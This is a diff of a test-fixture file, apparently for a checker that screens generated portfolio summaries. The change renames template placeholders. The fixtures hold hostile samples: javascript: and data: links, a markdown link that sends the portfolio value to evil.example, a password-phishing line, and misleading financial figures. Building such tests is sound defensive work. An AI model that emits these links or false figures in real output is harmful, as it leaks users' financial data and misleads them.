@@ -40,7 +40,7 @@ MARKUP = {
     "javascript": "[more](javascript:alert(1))",
     "javascript, hidden in entities": "[more](&#106;avascript:alert)",
     "a data address": "[more](data:text/html;base64,PHNjcmlwdD4=)",
-    "a link that leaks data": "[your statement](https://evil.example/?worth=[[total_value]])",
+    "a link that leaks data": "[your statement](https://evil.example/?worth=[[portfolio.value]])",
     "an address to type": "Enter your password at https://evil.example/login.",
     "an address of no scheme": "Go to evil.example/login or //evil.example.",
     "an autolink": "<https://evil.example/>",
@@ -59,9 +59,9 @@ FIGURES = {
     "figures in words": "Your portfolio is worth nine million dollars and will grow by twelve per cent.",
     "figures of other alphabets": "Your portfolio is worth ٩٩٩ or 𝟡𝟡𝟡 or ９９９.",
     "a figure of somebody else": "[[bobs_total_value]] is what Bob has.",
-    "a figure with a unit of its own": "Your portfolio is worth [[total_value]] million.",
-    "a false direction": "Equity is [[asset_equity_drift|size]] below your target.",
-    "a false superlative": "ZED, at [[holding_zed_share]], is your largest holding.",
+    "a figure with a unit of its own": "Your portfolio is worth [[portfolio.value]] million.",
+    "a false direction": "Equity is [[asset_class.equity.drift|size]] below your target.",
+    "a false superlative": "ZED, at [[holding.zed.share]], is your largest holding.",
     "a claim of checks": "*999 figures checked, 0 corrected.*",
 }
 
